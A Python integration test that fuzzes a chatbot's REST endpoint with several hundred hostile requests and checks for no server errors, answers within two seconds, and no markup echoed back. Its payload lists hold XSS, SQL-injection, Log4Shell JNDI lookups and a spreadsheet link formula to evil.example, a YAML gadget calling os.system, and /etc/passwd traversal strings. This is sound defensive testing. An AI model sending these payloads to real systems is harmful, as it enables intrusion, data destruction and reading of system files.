"""Hostile input through the running REST channel (security review, issue 12 item 6).

Several hundred requests a client could send: random Unicode with control and
format characters, sizes around every limit, JSON/YAML/HTML/SQL-looking text,
``/intent{...}`` forms with good and broken JSON, missing or odd senders,
bodies that are not JSON. For each: no server error (5xx), an answer within
2 seconds (the bound the review asked for), and no markup from the input in the
reply's text or structured payload.
"""
from __future__ import annotations

import json
import random
import time
import urllib.error
import urllib.request
from dataclasses import dataclass
from typing import Any

import pytest
from conftest import SUMMARY

pytestmark = pytest.mark.integration

SLOW_S = 2.0
BODY_LIMIT = 16384  # scripts/run.sh REQUEST_MAX_SIZE
JSON = {"Content-Type": "application/json"}

MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">guidance</a>", "<iframe src=//evil.example>", "</textarea><b>x</b>",
    "<style>body{display:none}</style>", "<!--", "<math><mi xlink:href=\"javascript:1\">",
]
STRUCTURED = [
    '{"sender": "x", "message": "nested"}', '[1, 2, {"a": null}]', '{"$where": "1 == 1"}',
    "key: !!python/object/apply:os.system ['id']", "- &a [*a, *a]\n- *a", "---\nscenario: x\n...",
    "'; DROP TABLE rec_answers; --", "1 OR 1=1", "\" UNION SELECT * FROM events --",
    "Robert'); DELETE FROM rec_feedback WHERE ('1'='1", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "%s%s%s%n", "../../../../etc/passwd", "\\x00\\x1b[31mred", "=HYPERLINK(\"http://evil.example\",\"x\")",
]
INTENT_FORMS = [
    "/inform", "/inform{}", '/inform{"scenario":"companion-filming-setup"}',
    '/inform{"scenario":"<script>alert(1)</script>"}', '/inform{"scenario":"' + "x" * 3000 + '"}',
    '/inform{"scenario": 5}', '/inform{"scenario": null}', '/inform{"scenario": ["a", "b"]}',
    "/inform{bad json", '/inform{"scenario":', "/inform{{{{", "/inform}", "/inform{\"a\":1}}",
    '/feedback{"helpful":"no","answer_id":"00000000-0000-4000-8000-000000000000"}',
    '/feedback{"helpful":"maybe","answer_id":"\'; DROP TABLE rec_feedback; --"}',
    '/feedback{"helpful":"yes"}', '/feedback{"answer_id": {"$ne": null}}',
    '/start_quiz{"choice": 99}', '/start_quiz{"choice": -1}', '/start_quiz{"choice": "x"}',
    '/inform{"choice": 1e308}', '/describe_situation{"who":"<b>mum</b>","how":"phone"}',
    "/no_such_intent", "/no_such_intent{\"x\":1}", "/", "//", "/ ", "/greet@0.1",
    "/greet@2.5", "/greet@-1", "/greet@nan", '/inform@0.9{"stage":"exposure"}',
    '/inform{"stage":"exposure","stage":"setup"}', '/inform{"__proto__":{"x":1}}',
    '/inform{"mode_state":"{\\"kind\\":\\"quiz\\",\\"index\\":9999}"}',
    '/inform{"scenario":"\\u0000\\u001b[2J"}', "/stop", "/greet" + "@" * 500,
]
CONTROL = [chr(c) for c in range(0, 32)] + ["\x7f", "\x85"]
FORMAT = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
          "\u2060", "\u2061", "\u2063", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u061c", "\u180e",
          "\u00ad", "\u2028", "\u2029"]
ODD = ["\U0001F4F7", "\U0001F9D1\u200d\u2695\ufe0f", "e\u0301" * 3, "\u0645\u0631\u062d\u0628\u0627", "\u4f60\u597d",
       "\uff11\uff12\uff13", "\u2460\u2461", "\U0001D400", "\ufffd", "\U000E0041"]


@dataclass
class Case:
    name: str
    body: bytes
    headers: dict[str, str]
    echo: list[str]  # markup from the input that must not come back


def _body(payload: Any) -> bytes:
    return json.dumps(payload).encode("utf-8")


def _random_text(rng: random.Random, length: int) -> str:
    pools = [CONTROL, FORMAT, ODD, list("abcdefghij XYZ 0123456789 .,;:!?'\"/\\{}[]()<>&%$#@*=+-")]
    return "".join(rng.choice(rng.choice(pools)) for _ in range(length))


def hostile_cases(seed: int = 20261123) -> list[Case]:
    rng = random.Random(seed)
    cases: list[Case] = []

    def message(name: str, text: str, sender: str | None = None, echo: list[str] | None = None) -> None:
        cases.append(Case(name, _body({"sender": sender or f"hostile-{len(cases)}", "message": text}), JSON,
                          echo or []))

    for i in range(80):
        message(f"random-unicode-{i}", _random_text(rng, rng.choice([1, 5, 40, 300, 1500])))
    for i, lone in enumerate(["\ud800", "\udfff", "a\ud83d", "\udc00b"]):  # lone surrogates, as JSON escapes
        message(f"lone-surrogate-{i}", lone + " relative filming")
    for i, fmt in enumerate(FORMAT):
        message(f"format-char-{i}", f"relative{fmt}filming{fmt} during set{fmt}up 943{fmt}476{fmt}5919")
    for i, markup in enumerate(MARKUP):
        message(f"markup-{i}", f"{markup} relative started filming during setup", echo=[markup])
        message(f"markup-alone-{i}", markup, echo=[markup])
        message(f"markup-intent-{i}", '/inform{"scenario":' + json.dumps(markup) + "}", echo=[markup])
    for i, text in enumerate(STRUCTURED):
        message(f"structured-{i}", text)
        message(f"structured-question-{i}", f"what does 5.7 say {text}")
    for i, form in enumerate(INTENT_FORMS):
        message(f"intent-form-{i}", form)
    # Sizes around the channel's message cap (4000 characters) and the body cap.
    for n in (1999, 2000, 2001, 3999, 4000, 4001, 8000):
        message(f"length-{n}", ("a" * (n - 2)) + " @")
        message(f"length-words-{n}", ("film " * (n // 5 + 1))[:n])
    message("long-no-spaces-at", "a" * 3990 + "@")
    message("long-digits", "9" * 4000)
    message("long-dotted", "1." * 2000)
    for n in (BODY_LIMIT - 200, BODY_LIMIT - 40, BODY_LIMIT, BODY_LIMIT + 1, 64 * 1024, 1024 * 1024):
        # Over the cap: any bytes will do (refused on Content-Length); under it: two-byte characters.
        body = (b'{"sender":"big","message":"' + b"x" * n)[:n] if n > BODY_LIMIT else \
            json.dumps({"sender": "big", "message": "\u00e9" * ((n - 40) // 2)}, ensure_ascii=False).encode()
        cases.append(Case(f"body-{n}", body, JSON, []))
    # Senders: missing, empty, wrong type, odd, pseudonym-shaped.
    for i, sender in enumerate([None, "", " ", 0, 12345, [], {}, True, "x" * 129, "\x00", "\u202e",
                                "p-0123456789abcdef0123456789abcdef", "P-0123456789ABCDEF0123456789ABCDEF",
                                "<script>alert(1)</script>", "default", "x" * 128]):
        payload: dict[str, Any] = {"message": "hello"}
        if sender is not None:
            payload["sender"] = sender
        cases.append(Case(f"sender-{i}", _body(payload), JSON, []))
    for i, msg in enumerate([None, 5, 1.5, [], {"text": "x"}, True]):
        payload = {"sender": f"type-{i}"}
        if msg is not None:
            payload["message"] = msg
        cases.append(Case(f"message-type-{i}", _body(payload), JSON, []))
    # Bodies that are not a JSON object, or not JSON at all.
    for i, raw in enumerate([b"", b"null", b"[]", b'"text"', b"42", b"not json", b"{", b'{"sender":',
                             b"\xff\xfe\x00garbage", b"\x00" * 100, b"[" * 5000 + b"]" * 5000,
                             b'{"a":' * 3000 + b"1" + b"}" * 3000, b"sender=me&message=hi",
                             '{"sender":"me","message":"caf\u00e9"}'.encode("latin-1"),
                             b'{"sender":"me","message":"hi"}' + b" " * 100 + b"trailing",
                             b'{"sender":"me","message":"\\ud800"}', b'{"sender":"me","message":"hi","sender":"x"}']):
        cases.append(Case(f"raw-body-{i}", raw, JSON, []))
    for i, ctype in enumerate(["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                               "application/json; charset=latin-1", "APPLICATION/JSON", "", "application/xml"]):
        headers = {"Content-Type": ctype} if ctype else {}
        cases.append(Case(f"content-type-{i}", _body({"sender": f"ct-{i}", "message": "hello"}), headers, []))
    cases.append(Case("deflate-body", b"x\x9c\xcbH\xcd\xc9\xc9\x07\x00\x06,\x02\x15",
                      {**JSON, "Content-Encoding": "deflate"}, []))
    return cases


def _post(url: str, case: Case) -> tuple[int, bytes, float]:
    request = urllib.request.Request(url, data=case.body, headers=case.headers, method="POST")
    started = time.monotonic()
    try:
        with urllib.request.urlopen(request, timeout=30) as resp:
            status, body = resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        status, body = exc.code, exc.read()
    except (ConnectionError, urllib.error.URLError) as exc:
        # The server may answer 413 and close before it has read a body over the cap;
        # the client then sees the connection closed (counted as status 0).
        if len(case.body) > BODY_LIMIT:
            return 0, str(exc).encode(), time.monotonic() - started
        raise
    return status, body, time.monotonic() - started


def test_hostile_inputs_get_no_server_error_no_slow_answer_and_no_markup_back(running_bot):
    cases = hostile_cases()
    assert len(cases) >= 200
    errors, slow, echoed, statuses = [], [], [], {}
    answered = 0
    for case in cases:
        status, body, elapsed = _post(running_bot["rest"], case)
        statuses[status] = statuses.get(status, 0) + 1
        if status >= 500:
            errors.append((case.name, status, body[:200]))
        if elapsed > SLOW_S:
            slow.append((case.name, round(elapsed, 2)))
        if status == 200:
            messages = json.loads(body)
            assert isinstance(messages, list), case.name
            answered += bool(messages)
            shown = json.dumps([{k: m.get(k) for k in ("text", "custom")} for m in messages], ensure_ascii=False)
            echoed += [(case.name, m) for m in case.echo if m in shown]
    SUMMARY["hostile REST inputs"] = (
        f"{len(cases)} sent, statuses {dict(sorted(statuses.items()))}, {answered} answered with messages, "
        f"{len(errors)} server errors, {len(slow)} slower than {SLOW_S:.0f} s, {len(echoed)} markup echoes")
    assert (errors, slow, echoed) == ([], [], [])
    # Positive controls: the channel really refused and really answered.
    assert statuses.get(400, 0) >= 20 and statuses.get(413, 0) >= 3 and statuses.get(415, 0) >= 3
    assert answered >= 100


def test_markup_typed_into_the_chat_comes_back_as_plain_text(chat):
    answer = chat.answer("<script>alert(1)</script> relative started filming during setup")
    assert "<script>" not in json.dumps(answer, ensure_ascii=False)
    assert "\u2039script\u203a" in answer["question"]  # shown, but never as a tag
